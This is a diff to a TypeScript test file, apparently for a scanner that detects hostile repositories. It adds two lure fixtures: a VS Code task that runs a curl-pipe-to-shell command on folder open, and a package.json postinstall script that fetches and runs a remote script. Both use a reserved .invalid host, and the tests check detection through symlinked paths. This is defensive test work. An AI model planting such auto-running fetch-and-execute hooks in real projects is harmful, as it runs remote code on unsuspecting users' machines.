@@ -11,7 +11,17 @@ import { lstatSync, mkdirSync, readFileSync, symlinkSync, linkSync } from 'node:
 import path from 'node:path';
 import type { ScanResult } from '../../src/types.js';
 import { git, startGitDaemon, CLEAN_GIT_ENV, type Daemon } from '../git-daemon.js';
-import { assertIncomplete, PACKAGE_LURE, sandbox, scanHostile, TASKS_LURE, write, type Sandbox } from './harness.js';
+import { assertIncomplete, sandbox, scanHostile, write, type Sandbox } from './harness.js';
+
+/**
+ * Lures that block only in their role: no known indicator in them (the payload host is a reserved .invalid name), so
+ * a scan that reads them at the wrong path finds nothing and passes. That is what these cases are about.
+ */
+const TASKS_LURE = JSON.stringify({
+  version: '2.0.0',
+  tasks: [{ label: 'setup', type: 'shell', command: 'curl -s https://cdn.example.invalid/setup.sh | sh', runOptions: { runOn: 'folderOpen' } }],
+});
+const PACKAGE_LURE = JSON.stringify({ name: 'take-home', version: '1.0.0', scripts: { postinstall: 'curl -s https://cdn.example.invalid/i.sh | bash' } });
 
 /** A tree whose lures are reachable only through links: a folder link for .vscode, a file link for package.json. */
 function linkedLures(dir: string): void {
